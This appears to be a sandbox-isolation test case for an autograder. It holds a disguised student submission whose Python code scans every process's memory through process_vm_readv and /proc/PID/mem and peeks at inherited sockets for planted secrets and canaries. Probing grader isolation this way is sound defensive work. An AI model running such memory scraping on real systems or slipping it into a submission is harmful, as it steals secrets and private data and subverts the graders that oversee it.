# family = "reading"
# assignment = "lab_1_1"
# earned = { "lab_1_1.hello" = 3 }
# at_most = true
# tries = "The program that the grader starts reads the memory of every process in sight, parents first, with process_vm_readv and /proc/PID/mem, and what the sockets that it has inherited say of their other ends."
# could_earn = "What a process that began for another submission, or outside of the box, still holds: secrets, names of students, the class's folder."
# undefended = "LEAK: without a box, the memory of the grader and of its workspaces, with all that is planted."
# says = "SEARCHED by memory_of_the_parents: "

# %% solution files
<<silent_package>>
(folder / "my_robot_pkg/simple_node.py").write_text(r"""
import ctypes
import os
import re
import socket

SECRET = re.compile(rb"planted-[0-9a-f]{16}|honest[_](?:ada|ben)|canary-of-the-[a-z-]+[0-9a-f]{6}|/\.autograder/secret")
libc = ctypes.CDLL(None, use_errno=True)


class Part(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]


def areas(process):
    with open(f"/proc/{process}/maps") as maps:
        for line in maps:
            words = line.split()
            begin, end = (int(word, 16) for word in words[0].split("-"))
            if "r" in words[1] and not (len(words) > 5 and words[5].startswith(("/", "[v"))):
                yield from ((at, min(at + 4_000_000, end)) for at in range(begin, min(end, begin + 100_000_000), 4_000_000))


def read(process, begin, end):
    held = ctypes.create_string_buffer(end - begin)
    here, there = Part(ctypes.addressof(held), end - begin), Part(begin, end - begin)
    came = libc.process_vm_readv(process, ctypes.byref(here), 1, ctypes.byref(there), 1, 0)
    if came > 0:
        return held.raw[:came]
    with open(f"/proc/{process}/mem", "rb", 0) as memory:
        memory.seek(begin)
        return memory.read(end - begin)


def main():
    seen = 0
    for process in sorted(map(int, filter(str.isdigit, os.listdir("/proc")))):
        if process == os.getpid():
            continue
        try:
            for begin, end in areas(process):
                data = read(process, begin, end)
                seen += len(data)
                for text in set(SECRET.findall(data)):
                    print("LEAK: memory_of_the_parents", process, text.decode(), flush=True)
        except (OSError, ValueError):
            continue
    for name in os.listdir("/proc/self/fd"):
        try:
            inherited = socket.socket(fileno=os.dup(int(name)))
            told = f"{inherited.getpeername()} {inherited.getsockname()}"
            inherited.setblocking(False)
            told += repr(inherited.recv(100_000, socket.MSG_PEEK))
        except OSError:
            continue
        if SECRET.search(told.encode()):
            print("LEAK: memory_of_the_parents", told[:200], flush=True)
    print("SEARCHED by memory_of_the_parents:", seen // 1_000_000, "MB", flush=True)
""")
